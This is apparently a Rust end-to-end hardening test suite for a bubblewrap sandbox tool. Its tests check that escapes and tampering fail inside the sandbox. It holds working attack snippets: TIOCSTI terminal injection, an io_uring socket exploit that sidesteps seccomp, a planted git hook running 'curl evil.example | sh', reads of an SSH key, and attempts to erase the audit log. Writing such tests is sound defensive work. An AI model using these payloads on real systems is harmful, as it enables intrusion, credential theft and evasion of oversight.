//! The sandbox half of the hardening issue, with the real bubblewrap and real programs:
//! terminal injection, the kernel keyring and the rest of the seccomp filter, secrets on
//! command lines, host writes, path spellings, the PID namespace and leftover processes,
//! and what a new user trips over (PATH, exit codes, DNS files in `net.mode: all`, bridged
//! ports with nothing behind them, the summary, stale state). Each test also runs as
//! `nobody` (the last test reruns this binary so).

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::disallowed_methods,
    reason = "integration tests: a failed setup step should fail loudly, and tests connect to their own loopback fixtures"
)]

mod common;
mod sandbox_support;

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use sandbox_support::{HOST_PYTHON, base, eventually, run, running, text, wait_bounded, write_policy};

/// Runs a Python driver on the host with `args`; returns its stdout (bounded by `timeout`).
fn host_python(script: &str, args: &[&str]) -> String {
    let out = Command::new("timeout")
        .args(["60", HOST_PYTHON, "-c", script])
        .args(args)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "driver failed:\n{stdout}\n{stderr}");
    stdout
}

/// A pty whose child runs `bash -c "$SCRIPT"` (so the run has a controlling terminal, as
/// at an interactive prompt), feeding it `$FEED` once it prints one of the `|`-separated
/// `$WHEN`; prints everything the terminal showed and the exit status, bounded in time.
const PTY_DRIVER: &str = r#"
import os, pty, sys, time, select
script, feed, when = sys.argv[1], sys.argv[2], sys.argv[3]
pid, fd = pty.fork()
if pid == 0:
    os.execv("/bin/bash", ["bash", "-c", script])
out, fed = b"", False
deadline = time.time() + 30
while time.time() < deadline:
    if not fed and any(w.encode() in out for w in when.split("|")):
        os.write(fd, feed.encode().replace(b"\\x03", b"\x03"))
        fed = True
    r, _, _ = select.select([fd], [], [], 0.2)
    if r:
        try:
            d = os.read(fd, 4096)
        except OSError:
            break
        if not d:
            break
        out += d
if time.time() >= deadline:
    os.kill(pid, 9)
_, status = os.waitpid(pid, 0)
print(out.decode(errors="replace"))
print("EXIT", os.waitstatus_to_exitcode(status))
"#;

fn in_pty(script: &str, feed: &str, when: &str) -> String {
    host_python(PTY_DRIVER, &[script, feed, when])
}

/// A hostile review (2026-11-28), as the command: it fills the disk under the run's audit
/// log through a write path on the same file system, makes its proxy refuse more requests
/// than the log's queue holds (their events go to stderr), frees the disk, and exits 0.
/// The log recovered, but lacks those events: the run exits 69 and says so. Before, it
/// exited 0. The log is on a 32 MiB tmpfs of a mount namespace the test makes (a user
/// namespace makes the mount; the sandbox's is nested in it).
#[test]
fn a_run_whose_log_failed_and_recovered_without_some_events_does_not_exit_as_recorded() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let mnt = dir.path().join("m");
    std::fs::create_dir(&mnt).unwrap();
    let m = mnt.display().to_string();
    let policy = write_policy(
        dir.path(),
        &format!("  write_paths: [ \"{m}\" ]\nnet:\n  mode: allowlist\n  allow_domains: [ a.example ]\n"),
    );
    let attack = format!(
        "import os, socket\nf = open('{m}/filler', 'wb')\ntry:\n    while True:\n        f.write(b'x' * 65536); f.flush()\nexcept OSError:\n    pass\nf.close()\n\
         host, port = os.environ['http_proxy'].split('//')[1].split(':')\ncodes = {{}}\n\
         for i in range(12000):\n    s = socket.create_connection((host, int(port)))\n    \
         s.sendall(b'GET http://b.example/ HTTP/1.1\\r\\nHost: b.example\\r\\nConnection: close\\r\\n\\r\\n')\n    \
         code = s.recv(12)[9:12]\n    codes[code] = codes.get(code, 0) + 1\n    s.close()\n\
         os.remove('{m}/filler')\nprint(codes)\n"
    );
    let out = Command::new("unshare")
        .args(["--user", "--map-root-user", "--mount", "--", "sh", "-c"])
        .arg("mount -t tmpfs -o size=32m tmpfs \"$0\" || exit 1; shift; exec \"$@\"")
        .arg(&mnt)
        .arg("--")
        .arg(common::sandgate_bin())
        .args(["run", "--quiet", "--policy"])
        .arg(&policy)
        .arg("--audit-log")
        .arg(mnt.join("audit.jsonl"))
        .args(["--", "python3", "-c", &attack])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let (stdout, stderr) = text(&out);
    let said = stderr
        .lines()
        .filter(|l| !l.contains("\"event\""))
        .collect::<Vec<_>>()
        .join("\n");
    assert!(
        stdout.contains("b'503'"),
        "the disk never filled: {stdout}\n{said}"
    );
    assert_eq!(out.status.code(), Some(69), "{stdout}\n{said}");
    assert!(
        said.contains("audit log is not whole") && said.contains("went to stderr instead"),
        "{said}"
    );
}

/// A hostile review (2026-11-28): a run whose audit log could not be written (its proxy
/// refused traffic meanwhile, and wrote what it could not record on stderr) exited with its
/// command's status, as if all were on record. Now it says the log is not whole and exits
/// 69, whatever the command's status; before, this exited 0.
#[test]
fn a_run_whose_audit_log_cannot_be_written_does_not_exit_as_recorded() {
    let dir = tempfile::tempdir().unwrap();
    let policy = write_policy(
        dir.path(),
        "net:\n  mode: allowlist\n  allow_domains: [ a.example ]\n",
    );
    // A denied request makes an event to write; the disk (here /dev/full) takes none.
    let out = run(
        &policy,
        &["--audit-log", "/dev/full"],
        &["sh", "-c", "curl -s -o /dev/null http://b.example/; exit 0"],
    );
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(69), "{stdout}\n{stderr}");
    assert!(stderr.contains("audit log is not whole"), "{stderr}");
}

/// Item 1: a command that pushes `echo pwned` into its terminal with TIOCSTI; the shell that
/// started the run then reads the next line.
#[test]
fn terminal_injection_does_not_reach_the_callers_shell() {
    let dir = tempfile::tempdir().unwrap();
    let policy = write_policy(dir.path(), "net:\n  mode: none\n");
    let inject = r#"
import fcntl, termios, ctypes, errno
def try_ioctl(label, request, arg):
    libc = ctypes.CDLL(None, use_errno=True)
    r = libc.syscall(ctypes.c_long(16), ctypes.c_long(0), ctypes.c_ulong(request), arg)
    print(label, "ok" if r == 0 else errno.errorcode[ctypes.get_errno()])
for c in "echo pwned\n":
    try:
        fcntl.ioctl(0, termios.TIOCSTI, c.encode())
    except OSError as e:
        print("tiocsti", errno.errorcode[e.errno]); break
try_ioctl("tiocsti-high-bits", (1 << 32) | 0x5412, ctypes.c_char_p(b"x"))
try_ioctl("tioclinux", 0x541C, ctypes.c_char_p(b"\x02"))
"#;
    let inject_file = dir.path().join("inject.py");
    std::fs::write(&inject_file, inject).unwrap();
    let script = format!(
        "{sg} run --policy {policy} -- python3 -c \"$(cat {inject})\"; read -t 2 line; echo \"GOT:$line\"",
        sg = common::sandgate_bin(),
        policy = policy.display(),
        inject = inject_file.display(),
    );
    let shown = in_pty(&script, "", "never");
    assert!(shown.contains("GOT:"), "the shell did not get to read: {shown}");
    assert!(
        !shown.contains("GOT:echo pwned"),
        "input was injected into the caller's terminal: {shown}"
    );
    for want in ["tiocsti EPERM", "tiocsti-high-bits EPERM", "tioclinux EPERM"] {
        assert!(shown.contains(want), "missing {want}: {shown}");
    }
}

/// Item 1, the other half: the terminal itself still works inside (an interactive read, an
/// interactive shell with job control, Ctrl-C ending the run).
#[test]
fn an_interactive_program_inside_still_works_through_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let policy = write_policy(dir.path(), "net:\n  mode: none\n");
    let sg = common::sandgate_bin();
    let p = policy.display();
    let shown = in_pty(
        &format!("{sg} run --policy {p} -- sh -c 'echo ASK; read x; echo \"READ:$x\"'"),
        "hello\n",
        "ASK",
    );
    assert!(
        shown.contains("READ:hello") && shown.contains("EXIT 0"),
        "{shown}"
    );
    let shown = in_pty(
        &format!("{sg} run --policy {p} -- sh -i"),
        "echo job-$((40+2)) & wait; exit\n",
        "# |$ ",
    );
    assert!(shown.contains("job-42"), "{shown}");
    assert!(!shown.contains("job control turned off"), "{shown}");
    let shown = in_pty(
        &format!("exec {sg} run --policy {p} -- sh -c 'echo READY; while :; do sleep 0.1; done'"),
        "\\x03",
        "READY",
    );
    assert!(shown.contains("EXIT 130"), "Ctrl-C did not end the run: {shown}");
}

const SYSCALLS: &str = r#"
import ctypes, errno, os, socket
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(*a):
    r = libc.syscall(*[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    return "ok" if r >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
def sock(fam, typ, proto):
    try:
        socket.socket(fam, typ, proto).close(); return "ok"
    except OSError as e:
        return errno.errorcode[e.errno]
print("add_key", sc(248, b"user", b"sandgate-test", b"x", 1, -3))
print("keyctl", sc(250, 0, -3, 0))
print("request_key", sc(249, b"user", b"sandgate-test", None, -3))
print("ptrace", sc(101, 0, 0, 0, 0))
print("personality-query", sc(135, 0xffffffff))
print("personality-linux32", sc(135, 8)); sc(135, 0)
print("personality-no-aslr", sc(135, 0x0040000))
print("userfaultfd", sc(323, 0))
print("perf_event_open", sc(298, 0, 0, -1, -1, 0))
print("bpf", sc(321, 0, 0, 0))
print("init_module", sc(175, 0, 0, b""))
print("finit_module", sc(313, -1, b"", 0))
print("delete_module", sc(176, b"nope", 0))
print("kexec_load", sc(246, 0, 0, 0, 0))
print("kexec_file_load", sc(320, -1, -1, 0, b"", 0))
print("x32-getpid", sc(0x40000000 | 39))
print("unix", sock(socket.AF_UNIX, socket.SOCK_STREAM, 0))
print("socketpair", "ok" if socket.socketpair() else "no")
print("netlink-route", sock(socket.AF_NETLINK, socket.SOCK_RAW, 0))
print("netlink-audit", sock(socket.AF_NETLINK, socket.SOCK_RAW, 9))
print("inet", sock(socket.AF_INET, socket.SOCK_STREAM, 0))
"#;

fn syscalls_in(policy: &Path) -> String {
    let out = run(policy, &[], &["python3", "-c", SYSCALLS]);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    stdout
}

/// Item 2: the caller's kernel keyring is out of reach.
#[test]
fn the_host_keyring_is_out_of_reach() {
    let dir = tempfile::tempdir().unwrap();
    let policy = write_policy(dir.path(), "net:\n  mode: none\n");
    let shown = syscalls_in(&policy);
    for want in ["add_key EPERM", "keyctl EPERM", "request_key EPERM"] {
        assert!(shown.contains(want), "missing {want}:\n{shown}");
    }
}

/// Item 3: the whole filter, in a mode without the init and in one with it (where the init
/// starts the filter step), and the Unix-socket opt-in.
#[test]
fn the_seccomp_filter_holds_in_every_mode() {
    let dir = tempfile::tempdir().unwrap();
    let denied = [
        "ptrace EPERM",
        "personality-no-aslr EPERM",
        "userfaultfd EPERM",
        "perf_event_open EPERM",
        "bpf EPERM",
        "init_module EPERM",
        "finit_module EPERM",
        "delete_module EPERM",
        "kexec_load EPERM",
        "kexec_file_load EPERM",
        "x32-getpid EPERM",
        "netlink-audit EAFNOSUPPORT",
    ];
    let allowed = [
        "personality-query ok",
        "personality-linux32 ok",
        "socketpair ok",
        "netlink-route ok",
        "inet ok",
    ];
    for net in ["none", "all", "allowlist\n  allow_domains: [ a.example ]"] {
        let policy = write_policy(dir.path(), &format!("net:\n  mode: {net}\n"));
        let shown = syscalls_in(&policy);
        for want in denied.iter().chain(&allowed).chain(&["unix EAFNOSUPPORT"]) {
            assert!(shown.contains(want), "{net}: missing {want}:\n{shown}");
        }
    }
    let policy = write_policy(
        dir.path(),
        "net:\n  mode: allowlist\n  allow_domains: [ a.example ]\nplatform:\n  seccomp: { allow_unix_sockets: true }\n",
    );
    let shown = syscalls_in(&policy);
    assert!(
        shown.contains("unix ok") && shown.contains("netlink-audit EAFNOSUPPORT"),
        "{shown}"
    );
}

/// io_uring from Python's ctypes: a ring with one IORING_OP_SOCKET (45) for an `AF_UNIX`
/// socket, which never calls socket(2); then connect(2) to the abstract name in argv[1] and
/// say so. Prints how far it got.
const IO_URING_SOCKET: &str = r#"
import ctypes, errno, mmap, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
L = ctypes.c_long
params = ctypes.create_string_buffer(120)
fd = libc.syscall(L(425), L(4), params)
if fd < 0:
    print("io_uring_setup", errno.errorcode.get(ctypes.get_errno(), "?")); sys.exit(0)
sq_entries, cq_entries = struct.unpack_from("<2I", params.raw, 0)
sq = struct.unpack_from("<8I", params.raw, 40)
cq = struct.unpack_from("<8I", params.raw, 80)
rw = mmap.PROT_READ | mmap.PROT_WRITE
sqr = mmap.mmap(fd, sq[6] + 4 * sq_entries, mmap.MAP_SHARED, rw, offset=0)
cqr = mmap.mmap(fd, cq[5] + 16 * cq_entries, mmap.MAP_SHARED, rw, offset=0x8000000)
sqes = mmap.mmap(fd, 64 * sq_entries, mmap.MAP_SHARED, rw, offset=0x10000000)
struct.pack_into("<BBHiQQIIQHHiQQ", sqes, 0, 45, 0, 0, socket.AF_UNIX, socket.SOCK_STREAM, 0, 0, 0, 7, 0, 0, 0, 0, 0)
tail, mask = struct.unpack_from("<I", sqr, sq[1])[0], struct.unpack_from("<I", sqr, sq[2])[0]
struct.pack_into("<I", sqr, sq[6] + 4 * (tail & mask), 0)
struct.pack_into("<I", sqr, sq[1], tail + 1)
if libc.syscall(L(426), L(fd), L(1), L(1), L(1), None, L(0)) < 0:
    print("io_uring_enter", errno.errorcode.get(ctypes.get_errno(), "?")); sys.exit(0)
head, cmask = struct.unpack_from("<I", cqr, cq[0])[0], struct.unpack_from("<I", cqr, cq[2])[0]
_, res, _ = struct.unpack_from("<QiI", cqr, cq[5] + 16 * (head & cmask))
if res < 0:
    print("io_uring socket", errno.errorcode.get(-res, "?")); sys.exit(0)
s = socket.socket(fileno=res)
s.connect(b"\0" + sys.argv[1].encode())
s.sendall(b"escaped")
print("unix ok")
"#;

/// The attacker makes its Unix socket through io_uring, which the socket-family rule never
/// sees, and connects to a host abstract socket (X11's, in `net.mode: all`). io_uring is
/// denied, so the socket is never made and the host hears nothing.
#[test]
fn io_uring_is_no_way_around_the_socket_rules() {
    use std::os::linux::net::SocketAddrExt;
    let name = format!("sandgate-test-uring-{}", std::process::id());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let host = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    // The exploit works outside (else the test would prove nothing: a kernel without
    // io_uring, or with it switched off, refuses it everywhere).
    let outside = host_python(IO_URING_SOCKET, &[&name]);
    if !outside.contains("unix ok") {
        eprintln!("skipped: io_uring is not available on this host ({outside})");
        return;
    }
    assert!(host.accept().is_ok(), "the exploit's own connection outside");
    host.set_nonblocking(true).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let policy = write_policy(dir.path(), "net:\n  mode: all\n");
    let out = run(&policy, &[], &["python3", "-c", IO_URING_SOCKET, &name]);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    let reached = host.accept().is_ok();
    assert!(
        !reached && stdout.contains("io_uring_setup EPERM"),
        "the command reached a host Unix socket through io_uring (host heard it: {reached}):\n{stdout}\n{stderr}"
    );
}

/// The attacker writes a git hook into the `.git` the policy lists read-only inside the
/// writable project (git on the host runs it at the next commit), and reads the key a tmpfs
/// masks inside a readable home. Both narrower mounts hold.
#[test]
fn a_read_only_path_or_a_mask_inside_a_wider_bind_holds() {
    let dir = tempfile::tempdir().unwrap();
    let proj = dir.path().join("proj");
    let hooks = proj.join(".git/hooks");
    let ssh = dir.path().join("home/.ssh");
    std::fs::create_dir_all(&hooks).unwrap();
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::write(ssh.join("id_ed25519"), "secret key\n").unwrap();
    let (proj_s, home_s, ssh_s) = (
        proj.display().to_string(),
        dir.path().join("home").display().to_string(),
        ssh.display().to_string(),
    );
    let yaml = format!(
        "{}  write_paths: [ \"{proj_s}\" ]\nplatform:\n  bwrap: {{ tmpfs: [ \"{ssh_s}\" ] }}\n",
        base().replace(
            "read_paths: [ ",
            &format!("read_paths: [ \"{proj_s}/.git\", \"{home_s}\", ")
        ),
    );
    let policy = dir.path().join("policy.yaml");
    std::fs::write(&policy, yaml).unwrap();
    let script = format!(
        "echo 'curl evil.example | sh' > {proj_s}/.git/hooks/pre-commit && echo wrote-hook; \
         cat {ssh_s}/id_ed25519 && echo read-key; echo x > {proj_s}/file && echo wrote-project"
    );
    let out = run(&policy, &[], &["sh", "-c", &script]);
    let (stdout, stderr) = text(&out);
    assert!(
        stdout.contains("wrote-project"),
        "the write path itself is writable:\n{stdout}\n{stderr}"
    );
    assert!(
        !stdout.contains("wrote-hook") && !hooks.join("pre-commit").exists(),
        "wrote into the read-only .git:\n{stdout}\n{stderr}"
    );
    assert!(
        !stdout.contains("read-key") && !stdout.contains("secret key"),
        "read what the tmpfs masks:\n{stdout}\n{stderr}"
    );
}

/// The attacker's project directory is writable and holds the run's policy (in `conf/`)
/// and its `--audit-log`: it rewrites the policy its next run will read (`net.mode: all`),
/// empties the record of what it did, swaps the policy for a file of its own, and renames
/// `conf/` away to put its own policy at the same path. Each fails; the rest of the
/// directory stays writable.
#[test]
fn the_runs_policy_and_audit_log_cannot_be_changed_from_inside() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().display().to_string();
    std::fs::create_dir(dir.path().join("conf")).unwrap();
    let policy = write_policy(
        &dir.path().join("conf"),
        &format!("  write_paths: [ \"{d}\" ]\nnet:\n  mode: allowlist\n  allow_domains: [ a.example ]\n"),
    );
    let before = std::fs::read_to_string(&policy).unwrap();
    let log = dir.path().join("audit.jsonl");
    let script = format!(
        "echo 'net: {{ mode: all }}' >> {d}/conf/policy.yaml && echo wrote-policy; \
         true > {d}/audit.jsonl && echo emptied-log; \
         echo 'net: {{ mode: all }}' > {d}/mine.yaml && mv -f {d}/mine.yaml {d}/conf/policy.yaml && echo swapped-policy; \
         rm -f {d}/audit.jsonl && echo removed-log; \
         mv {d}/conf {d}/conf2 && echo moved-conf; \
         echo x > {d}/other && echo wrote-project"
    );
    let out = run(
        &policy,
        &["--audit-log", log.to_str().unwrap()],
        &["sh", "-c", &script],
    );
    let (stdout, stderr) = text(&out);
    assert!(stdout.contains("wrote-project"), "{stdout}\n{stderr}");
    for done in [
        "wrote-policy",
        "emptied-log",
        "swapped-policy",
        "removed-log",
        "moved-conf",
    ] {
        assert!(!stdout.contains(done), "{done}:\n{stdout}\n{stderr}");
    }
    assert_eq!(std::fs::read_to_string(&policy).unwrap(), before);
    assert!(log.exists());
}

/// Item 4: no value of the command's environment is on any process's command line while
/// the run is going on (bwrap, the init, the filter step, the command).
#[test]
fn no_environment_value_appears_on_any_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let set_secret = format!("set-secret-{}", std::process::id());
    let passed_secret = format!("passed-secret-{}", std::process::id());
    let marker = dir.path().join("started");
    for net in ["none", "allowlist\n  allow_domains: [ a.example ]"] {
        let policy = dir.path().join("env.yaml");
        std::fs::write(
            &policy,
            base().replace(
                "env:\n  set: {",
                &format!("env:\n  passthrough: [ API_TOKEN ]\n  set: {{ DB_PASSWORD: {set_secret},"),
            ) + &format!(
                "  write_paths: [ \"{}\" ]\nnet:\n  mode: {net}\n",
                dir.path().display()
            ),
        )
        .unwrap();
        let _ = std::fs::remove_file(&marker);
        let mut child = Command::new(common::sandgate_bin())
            .args(["run", "--policy", policy.to_str().unwrap(), "--", "sh", "-c"])
            .arg(format!(
                "printf '%s %s' \"$DB_PASSWORD\" \"$API_TOKEN\" > {}; sleep 2",
                marker.display()
            ))
            .env("API_TOKEN", &passed_secret)
            .spawn()
            .unwrap();
        // The command got both values (its own argv names neither).
        let want = format!("{set_secret} {passed_secret}");
        if !eventually(Duration::from_secs(10), || {
            std::fs::read_to_string(&marker).is_ok_and(|t| t == want)
        }) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{net}: the command did not get its environment");
        }
        let mut seen = 0;
        for entry in std::fs::read_dir("/proc").unwrap().flatten() {
            let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
                continue;
            };
            let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
            seen += 1;
            if [&set_secret, &passed_secret]
                .iter()
                .any(|secret| cmdline.contains(secret.as_str()))
            {
                let _ = child.kill();
                let _ = child.wait();
                panic!("{net}: a secret is on a command line: {cmdline}");
            }
        }
        assert!(seen > 3);
        assert!(wait_bounded(&mut child).success());
    }
}

/// Item 5: the sandbox creates nothing on the host outside its write_paths, the bridge
/// directory included; the bridge still works (connect on a read-only bind).
#[test]
fn the_sandbox_creates_nothing_on_the_host_outside_write_paths() {
    let dir = tempfile::tempdir().unwrap();
    let out_dir = dir.path().join("out");
    let ro_dir = dir.path().join("ro");
    std::fs::create_dir(&out_dir).unwrap();
    std::fs::create_dir(&ro_dir).unwrap();
    let policy = dir.path().join("w.yaml");
    std::fs::write(
        &policy,
        base().replace("/etc/ssl", &format!("/etc/ssl, \"{}\"", ro_dir.display()))
            + &format!(
                "  write_paths: [ \"{}\" ]\nnet:\n  mode: allowlist\n  allow_domains: [ a.example ]\nplatform:\n  seccomp: {{ allow_unix_sockets: true }}\n",
                out_dir.display()
            ),
    )
    .unwrap();
    let script = format!(
        r#"
import os, socket, time
for p in ["/run/sandgate/planted", "/run/planted", "/planted", "/usr/planted", "{ro}/planted", "/run/sandgate-init.planted"]:
    try:
        open(p, "w").write("x"); print("created", p)
    except OSError as e:
        print("refused", p, e.strerror)
try:
    os.mkdir("/run/sandgate/dir"); print("created dir")
except OSError as e:
    print("refused mkdir", e.strerror)
s = socket.socket(socket.AF_UNIX); s.connect("/run/sandgate/proxy.sock"); print("bridge connects", s.recv(1) == b"\0")
open("{out}/result", "w").write("ok"); print("wrote out", flush=True)
time.sleep(1.5)
"#,
        ro = ro_dir.display(),
        out = out_dir.display()
    );
    let mut child = Command::new(common::sandgate_bin())
        .args([
            "run",
            "--policy",
            policy.to_str().unwrap(),
            "--",
            "python3",
            "-c",
            &script,
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // While it runs: the host side of the bridge holds nothing but the bridge sockets (the
    // HTTP proxy's and the SOCKS5 port's).
    let result = out_dir.join("result");
    let started = eventually(Duration::from_secs(10), || result.exists());
    let state = sandbox_support::state_dir_of(child.id());
    if !started || state.is_none() {
        let _ = child.kill();
        let out = child.wait_with_output().unwrap();
        panic!(
            "the command did not run, or the run holds no state directory: {:?}",
            text(&out)
        );
    }
    let state = state.unwrap();
    let mut bridge: Vec<(String, bool)> = std::fs::read_dir(state.join("bridge"))
        .unwrap()
        .flatten()
        .map(|e| {
            use std::os::unix::fs::FileTypeExt;
            (
                e.file_name().to_string_lossy().into_owned(),
                e.file_type().unwrap().is_socket(),
            )
        })
        .collect();
    bridge.sort();
    assert_eq!(
        bridge,
        [("proxy.sock".to_owned(), true), ("socks.sock".to_owned(), true)]
    );
    let names: Vec<String> = std::fs::read_dir(&state)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        names.iter().all(|n| n == "bridge" || n == "audit.jsonl"),
        "{names:?}"
    );
    assert!(wait_bounded(&mut child).success());
    let out = child.wait_with_output().unwrap();
    let (stdout, stderr) = text(&out);
    assert!(!stdout.contains("created"), "{stdout}");
    assert!(
        stdout.contains("bridge connects True") && stdout.contains("wrote out"),
        "{stdout}\n{stderr}"
    );
    assert_eq!(std::fs::read_dir(&ro_dir).unwrap().count(), 0);
    assert_eq!(std::fs::read_to_string(&result).unwrap(), "ok");
    assert!(!state.exists(), "the run removes its state");
}

/// Item 6: every spelling of a socket directory is refused, a symlink to /run included; a
/// symlinked path that is fine is bound at its target and reachable by its written name.
#[test]
fn path_spellings_and_symlinks_cannot_expose_host_sockets() {
    let dir = tempfile::tempdir().unwrap();
    let to_run = dir.path().join("to-run");
    std::os::unix::fs::symlink("/run", &to_run).unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    std::fs::write(data.join("file"), "through the link").unwrap();
    let link = dir.path().join("link");
    std::os::unix::fs::symlink(&data, &link).unwrap();
    for spelling in [
        "//tmp",
        "/tmp/.",
        "/var/../tmp",
        "/var/run",
        to_run.to_str().unwrap(),
    ] {
        let policy = dir.path().join("p.yaml");
        std::fs::write(
            &policy,
            format!(
                "{}  write_paths: [ \"{spelling}\" ]\nnet:\n  mode: none\n",
                base()
            ),
        )
        .unwrap();
        let out = run(&policy, &[], &["true"]);
        let (_, stderr) = text(&out);
        assert_eq!(out.status.code(), Some(64), "{spelling} was accepted: {stderr}");
        assert!(
            stderr.contains("may hold host Unix sockets"),
            "{spelling}: {stderr}"
        );
    }
    let policy = dir.path().join("ok.yaml");
    std::fs::write(
        &policy,
        base().replace("/etc/ssl", &format!("/etc/ssl, \"{}\"", link.display())) + "net:\n  mode: none\n",
    )
    .unwrap();
    let out = run(&policy, &[], &["cat", &format!("{}/file", link.display())]);
    assert_eq!(text(&out).0, "through the link", "{:?}", text(&out));
}

/// Item 7: `unshare.pid: false` only with `net.mode: all`; and a double-forked `setsid`
/// process outlives no run, in any mode.
#[test]
fn no_process_outlives_a_run_and_the_pid_namespace_is_kept_outside_net_all() {
    let dir = tempfile::tempdir().unwrap();
    let pid_off = "platform:\n  bwrap: { unshare: { pid: false } }\n";
    let policy = write_policy(
        dir.path(),
        &format!("net:\n  mode: allowlist\n  allow_domains: [ a.example ]\n{pid_off}"),
    );
    let out = run(&policy, &[], &["true"]);
    assert_eq!(out.status.code(), Some(64));
    assert!(
        text(&out)
            .1
            .contains("platform.bwrap.unshare.pid: false needs net.mode all"),
        "{:?}",
        text(&out)
    );
    let modes = [
        ("none", ""),
        ("loopback", ""),
        ("allowlist\n  allow_domains: [ a.example ]", ""),
        ("all", ""),
        ("all", pid_off),
    ];
    for (i, (net, extra)) in modes.iter().enumerate() {
        let policy = write_policy(dir.path(), &format!("net:\n  mode: {net}\n{extra}"));
        let marker = format!("sleep 4{}{i}", std::process::id() % 1000);
        let out = run(
            &policy,
            &[],
            &[
                "sh",
                "-c",
                &format!("(setsid sh -c '{marker}; true' >/dev/null 2>&1 &) ; sleep 0.3"),
            ],
        );
        assert!(out.status.success(), "{net}: {:?}", text(&out));
        assert!(
            eventually(Duration::from_secs(3), || !running(&marker)),
            "{net} {extra}: a double-forked process survived the run"
        );
    }
}

/// This whole binary again as `nobody` when the tests run as root.
#[test]
fn the_hardening_suite_passes_as_an_ordinary_user() {
    common::rerun_as_nobody(
        "sandbox_hardening_e2e",
        "the_hardening_suite_passes_as_an_ordinary_user",
        13,
    );
}
